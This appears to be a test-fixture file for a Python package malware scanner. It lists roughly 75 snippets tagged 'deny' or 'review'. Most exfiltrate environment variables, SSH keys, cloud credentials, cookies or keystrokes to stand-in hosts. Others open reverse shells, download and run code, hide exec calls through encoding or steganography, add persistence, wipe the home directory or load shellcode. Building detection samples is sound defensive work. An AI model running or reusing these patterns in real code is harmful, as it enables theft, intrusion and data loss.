/* eslint max-lines: off -- one table */
/** More shapes, each one file that is imported. */
import type { Tier } from './scan.js';
import type { Shape } from './malicious.js';

const inert = Buffer.from('print(1)').toString('base64');
const table: readonly (readonly [Tier, string, string])[] = [
  [
    'deny',
    'ctx style in method called by function',
    `import os\nfrom urllib import request, parse\ndef _t():\n    d = parse.urlencode(dict(os.environ)).encode()\n    request.urlopen(request.Request("https://t.invalid/c", data=d, method="POST"))\ntry:\n    _t()\nexcept Exception:\n    pass\n`,
  ],
  [
    'deny',
    'env string build via join',
    `import os, urllib.request\nd = "&".join(f"{k}={v}" for k, v in os.environ.items())\nurllib.request.urlopen("https://t.invalid/?" + d)\n`,
  ],
  [
    'deny',
    'env subset loop copy',
    `import os, json, requests\nout = {}\nfor k in os.environ:\n    out[k] = os.environ[k]\nrequests.post("https://t.invalid", data=json.dumps(out))\n`,
  ],
  [
    'deny',
    'subprocess env',
    `import subprocess, requests\nrequests.post("https://t.invalid", data=subprocess.check_output("env", shell=True))\n`,
  ],
  [
    'deny',
    'ssh dir glob',
    `import glob, os, requests\nfor f in glob.glob(os.path.expanduser("~/.ssh/*")):\n    requests.post("https://t.invalid", files={"f": open(f, "rb")})\n`,
  ],
  [
    'deny',
    'os.walk ssh',
    `import os, requests\nfor root, d, files in os.walk(os.path.expanduser("~/.ssh")):\n    for f in files:\n        requests.post("https://t.invalid", data=open(os.path.join(root, f)).read())\n`,
  ],
  [
    'deny',
    'zip of creds',
    `import zipfile, os, requests, io\nb = io.BytesIO()\nz = zipfile.ZipFile(b, "w")\nz.write(os.path.expanduser("~/.aws/credentials"))\nz.close()\nrequests.post("https://t.invalid", data=b.getvalue())\n`,
  ],
  [
    'deny',
    'smtp exfil',
    `import smtplib, os\ns = smtplib.SMTP("mail.invalid")\ns.sendmail("a@x.invalid", "b@x.invalid", str(dict(os.environ)))\n`,
  ],
  [
    'deny',
    'ftp exfil',
    `import ftplib, os\nf = ftplib.FTP("f.invalid")\nf.storbinary("STOR k", open(os.path.expanduser("~/.ssh/id_rsa"), "rb"))\n`,
  ],
  [
    'deny',
    'boto3 exfil',
    `import boto3, os, json\nboto3.client("s3").put_object(Bucket="x", Key="y", Body=json.dumps(dict(os.environ)))\n`,
  ],
  [
    'deny',
    'aiohttp exfil',
    `import aiohttp, asyncio, os\nasync def m():\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://t.invalid", json=dict(os.environ))\nasyncio.get_event_loop().run_until_complete(m())\n`,
  ],
  [
    'deny',
    'cookies',
    `import browser_cookie3, requests\nrequests.post("https://t.invalid", data=str(list(browser_cookie3.chrome())))\n`,
  ],
  [
    'deny',
    'nc rev shell list',
    `import subprocess\nsubprocess.Popen(["nc", "-e", "/bin/sh", "1.2.3.4", "4444"])\n`,
  ],
  [
    'deny',
    'python rev shell cmd',
    `import os\nos.system("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\\"c.invalid\\",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\\"sh\\")'")\n`,
  ],
  [
    'deny',
    'perl rev',
    `import os\nos.system("perl -e 'use Socket;exec(\\"/bin/sh -i\\");' ; sh -i >& /dev/tcp/1.2.3.4/1 0>&1")\n`,
  ],
  [
    'deny',
    'download py then exec file',
    `import urllib.request\nurllib.request.urlretrieve("https://t.invalid/p.py", "/tmp/p.py")\nexec(open("/tmp/p.py").read())\n`,
  ],
  [
    'deny',
    'exec from file w/ download var',
    `import requests\np = "/tmp/q.py"\nwith open(p, "w") as f:\n    f.write(requests.get("https://t.invalid").text)\nexec(compile(open(p).read(), p, "exec"))\n`,
  ],
  [
    'deny',
    'runpy downloaded',
    `import urllib.request, runpy\nurllib.request.urlretrieve("https://t.invalid/p.py", "/tmp/p.py")\nrunpy.run_path("/tmp/p.py")\n`,
  ],
  [
    'deny',
    'spec_from_file',
    `import urllib.request, importlib.util\nurllib.request.urlretrieve("https://t.invalid/p.py", "/tmp/p.py")\ns = importlib.util.spec_from_file_location("p", "/tmp/p.py")\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\n`,
  ],
  [
    'deny',
    'tempfile download exe',
    `import tempfile, requests, subprocess, os\nd = tempfile.mkdtemp()\np = os.path.join(d, "svchost.exe")\nopen(p, "wb").write(requests.get("https://t.invalid/a.exe").content)\nsubprocess.Popen(p, creationflags=0x08000000)\n`,
  ],
  [
    'deny',
    'startfile',
    `import os, urllib.request\nurllib.request.urlretrieve("https://t.invalid/a.exe", "C:/a.exe")\nos.startfile("C:/a.exe")\n`,
  ],
  [
    'deny',
    'zip download extract run',
    `import io, zipfile, requests, subprocess\nz = zipfile.ZipFile(io.BytesIO(requests.get("https://t.invalid/a.zip").content))\nz.extractall("/tmp/a")\nsubprocess.Popen(["/tmp/a/run"])\n`,
  ],
  ['deny', 'pip install url at import', `import os\nos.system("pip install https://t.invalid/x.tar.gz")\n`],
  [
    'deny',
    'hidden powershell download',
    `import subprocess\nsubprocess.Popen('powershell -w hidden -c "Invoke-WebRequest https://t.invalid/a.exe -OutFile a.exe; ./a.exe"', shell=True)\n`,
  ],
  ['deny', 'mshta', `import os\nos.system("mshta https://t.invalid/a.hta")\n`],
  [
    'deny',
    'class decorator exec',
    `import base64\nclass X:\n    def __init__(self, f):\n        exec(base64.b64decode("${inert}"))\n@X\ndef f(): pass\n`,
  ],
  [
    'deny',
    'try import fallback',
    `try:\n    import base64 as b\nexcept ImportError:\n    b = None\ngetattr(__builtins__, "ex" "ec")(b.b64decode("${inert}"))\n`,
  ],
  [
    'deny',
    'nested funcs chain',
    `import base64\ndef a(x): return base64.b64decode(x)\ndef b(x): return a(x).decode()\ndef c(x): exec(b(x))\nc("${inert}")\n`,
  ],
  [
    'deny',
    'global var',
    `import base64\nP = None\ndef load():\n    global P\n    P = base64.b64decode("${inert}")\ndef run():\n    exec(P)\nload(); run()\n`,
  ],
  [
    'deny',
    'dict dispatch w/ str keys',
    `import base64\nD = {"d": base64.b64decode, "e": exec}\nD["e"](D["d"]("${inert}"))\n`,
  ],
  [
    'deny',
    'object attr chain',
    `import base64\nclass C: pass\nc = C()\nc.e = exec\nc.p = base64.b64decode("${inert}")\nc.e(c.p)\n`,
  ],
  ['deny', 'lambda default', `import base64\nr = lambda s, e=exec: e(base64.b64decode(s))\nr("${inert}")\n`],
  [
    'deny',
    'eval compile ast',
    `import ast, base64\nexec(compile(ast.parse(base64.b64decode("${inert}")), "x", "exec"))\n`,
  ],
  [
    'deny',
    'custom xor decrypt function',
    `def x(d, k):\n    return "".join(chr(ord(c) ^ k) for c in d)\nexec(x("rpkln*3+", 2))\n`,
  ],
  [
    'deny',
    'xor cycle key',
    `from itertools import cycle\ndef x(d, k):\n    return bytes(a ^ b for a, b in zip(d, cycle(k)))\nexec(x(bytes.fromhex("1a1b0b0a4c55565758595a5b5c5d5e5f60"), b"key"))\n`,
  ],
  [
    'deny',
    'caesar loop with index',
    `s = "qsjou)2*qsjou)2*qsjou)2*qsjou"\no = ""\nfor i in range(len(s)):\n    o += chr(ord(s[i]) - 1)\nexec(o)\n`,
  ],
  ['deny', 'builtins import as', `import builtins as _b, base64 as _c\n_b.exec(_c.b64decode("${inert}"))\n`],
  [
    'deny',
    'from builtins import exec',
    `from builtins import exec as _x\nimport base64\n_x(base64.b64decode("${inert}"))\n`,
  ],
  [
    'deny',
    'importlib builtins',
    `import importlib, base64\nimportlib.import_module("builtins").exec(base64.b64decode("${inert}"))\n`,
  ],
  ['deny', '__import__ base64', `exec(__import__("base64").b64decode("${inert}"))\n`],
  [
    'deny',
    '__import__ zlib reversed lambda',
    `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=oQKxgCdulmcw'))\n`,
  ],
  [
    'deny',
    'code type subclass jailbreak',
    `().__class__.__base__.__subclasses__()[104].load_module("o" + "s").system("id")\n`,
  ],
  [
    'deny',
    'sys.modules builtins',
    `import sys, base64\nsys.modules["builtins"].__dict__["exec"](base64.b64decode("${inert}"))\n`,
  ],
  [
    'deny',
    'frame globals',
    `import sys, base64\nsys._getframe(0).f_builtins["exec"](base64.b64decode("${inert}"))\n`,
  ],
  [
    'deny',
    'func __globals__',
    `import base64\ndef f(): pass\nf.__globals__["__builtins__"]["exec"](base64.b64decode("${inert}"))\n`,
  ],
  [
    'deny',
    'func __builtins__',
    `import base64\ndef f(): pass\nf.__builtins__["eval"](base64.b64decode("${inert}"))\n`,
  ],
  [
    'deny',
    'partial w/ getattr',
    `import functools, base64, builtins\nfunctools.partial(getattr(builtins, "exec"))(base64.b64decode("${inert}"))\n`,
  ],
  [
    'deny',
    'string.printable index',
    `import string\nexec("".join([string.printable[25], string.printable[27]]))\n`,
  ],
  [
    'deny',
    'dns exfil chunks',
    `import socket, os, base64\nd = base64.b32encode(str(os.environ).encode()).decode()\nfor i in range(0, len(d), 60):\n    socket.gethostbyname(d[i:i+60] + ".x.invalid")\n`,
  ],
  [
    'deny',
    'telegram doc',
    `import requests, os\nrequests.post("https://api.telegram.org/bot123456789:ABCDEF_ghijk/sendDocument", files={"document": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")})\n`,
  ],
  ['deny', 'bashrc append via echo', `import os\nos.system("echo 'python3 -m x &' >> ~/.bashrc")\n`],
  [
    'deny',
    'launch agent',
    `import os\np = os.path.expanduser("~/Library/LaunchAgents/com.x.plist")\nopen(p, "w").write("<plist/>")\n`,
  ],
  [
    'deny',
    'schtasks',
    `import subprocess\nsubprocess.run("schtasks /create /tn x /tr x.exe /sc onlogon", shell=True)\n`,
  ],
  [
    'deny',
    'reg add',
    `import os\nos.system(r"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe")\n`,
  ],
  [
    'deny',
    'wipe loop',
    `import os\nfor r, d, f in os.walk(os.path.expanduser("~")):\n    for n in f:\n        os.remove(os.path.join(r, n))\n`,
  ],
  ['deny', 'npm publish', `import subprocess\nsubprocess.run(["npm", "publish"])\n`],
  [
    'deny',
    'gh token',
    `import subprocess, requests\nt = subprocess.check_output(["gh", "auth", "token"])\nrequests.post("https://t.invalid", data=t)\n`,
  ],
  [
    'deny',
    'trufflehog',
    `import subprocess, requests\nr = subprocess.run(["trufflehog", "filesystem", "/", "--json"], capture_output=True)\nrequests.post("https://t.invalid", data=r.stdout)\n`,
  ],
  [
    'deny',
    'linux shellcode mmap',
    `import ctypes\nl = ctypes.CDLL(None)\nl.mmap.restype = ctypes.c_void_p\np = l.mmap(0, 4096, 7, 34, -1, 0)\nsc = b"\\x48\\x31\\xc0"\nctypes.memmove(p, sc, len(sc))\nl.mprotect(p, 4096, 7)\nctypes.CFUNCTYPE(ctypes.c_int)(p)()\n`,
  ],
  [
    'deny',
    'kernel32 via WinDLL',
    `import ctypes\nk = ctypes.WinDLL("kernel32")\np = k.VirtualAlloc(0, 100, 0x3000, 0x40)\nk.RtlMoveMemory(p, b"x", 1)\nk.CreateThread(0,0,p,0,0,0)\n`,
  ],
  [
    'deny',
    'from ctypes import windll',
    `from ctypes import windll\np = windll.kernel32.VirtualAlloc(0, 100, 0x3000, 0x40)\nwindll.kernel32.CreateThread(0,0,p,0,0,0)\n`,
  ],
  [
    'deny',
    'clip via tkinter',
    `import tkinter, requests\nr = tkinter.Tk()\nrequests.post("https://t.invalid", data=r.clipboard_get())\n`,
  ],
  [
    'deny',
    'mss screenshot',
    `import mss, requests\nwith mss.mss() as s:\n    f = s.shot()\nrequests.post("https://t.invalid", files={"f": open(f, "rb")})\n`,
  ],
  [
    'deny',
    'keyboard lib',
    `import keyboard, requests\ndef cb(e):\n    requests.post("https://t.invalid", data=e.name)\nkeyboard.on_press(cb)\nkeyboard.wait()\n`,
  ],
  [
    'deny',
    'pillow stego',
    `from PIL import Image\nim = Image.open("a.png")\nbits = "".join(str(p[0] & 1) for p in im.getdata())\nexec(bytes(int(bits[i:i+8], 2) for i in range(0, len(bits), 8)).decode())\n`,
  ],
  [
    'deny',
    'importlib.resources stego spawn',
    `import importlib.resources, base64, subprocess\nd = importlib.resources.read_binary("demo", "a.wav")\nsubprocess.Popen(["python", "-c", base64.b64decode(d[44:])])\n`,
  ],
  [
    'deny',
    'exec file in pkg encoded',
    `import os, zlib\nexec(zlib.decompress(open(os.path.join(os.path.dirname(__file__), "data.bin"), "rb").read()))\n`,
  ],
  [
    'review',
    'host info get at import',
    `import socket, requests\nrequests.get("https://t.invalid/?h=" + socket.gethostname())\n`,
  ],
  [
    'review',
    'spawn hidden at import non-init',
    `import subprocess\nsubprocess.Popen(["./helper"], start_new_session=True)\n`,
  ],
  [
    'deny',
    'pyc loader marshal file',
    `import marshal\nexec(marshal.loads(__import__("zlib").decompress(b"x\\x9cKLJNIM\\x03\\x00\\x08%\\x02A")))\n`,
  ],
  [
    'deny',
    'setattr builtins',
    `import builtins, base64\nsetattr(builtins, "x", exec)\nx(base64.b64decode("${inert}"))\n`,
  ],
  [
    'deny',
    'os.popen decoded',
    `import os, base64\nos.popen(base64.b64decode("Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo").decode())\n`,
  ],
  [
    'deny',
    'exec with requests session in class',
    `import requests\nclass L:\n    def __init__(self):\n        self.s = requests.Session()\n    def go(self):\n        exec(self.s.get("https://t.invalid").text)\nL().go()\n`,
  ],
  [
    'deny',
    'http.client exec',
    `import http.client\nc = http.client.HTTPSConnection("t.invalid")\nc.request("GET", "/")\nexec(c.getresponse().read())\n`,
  ],
  [
    'deny',
    'socket exec recv loop',
    `import socket\ns = socket.socket()\ns.connect(("t.invalid", 1))\nd = b""\nwhile True:\n    p = s.recv(1024)\n    if not p: break\n    d += p\nexec(d)\n`,
  ],
  [
    'deny',
    'websocket c2',
    `import websocket, subprocess\nw = websocket.create_connection("wss://t.invalid")\nwhile True:\n    c = w.recv()\n    w.send(subprocess.getoutput(c))\n`,
  ],
  [
    'deny',
    'discord bot c2',
    `import requests, subprocess, time\nwhile True:\n    c = requests.get("https://t.invalid/cmd").text\n    subprocess.call(c, shell=True)\n    time.sleep(5)\n`,
  ],
];

export const combinations: readonly Shape[] = table.map(([tier, name, source]) => ({
  name,
  tier,
  files: { 'pkg/__init__.py': source },
}));
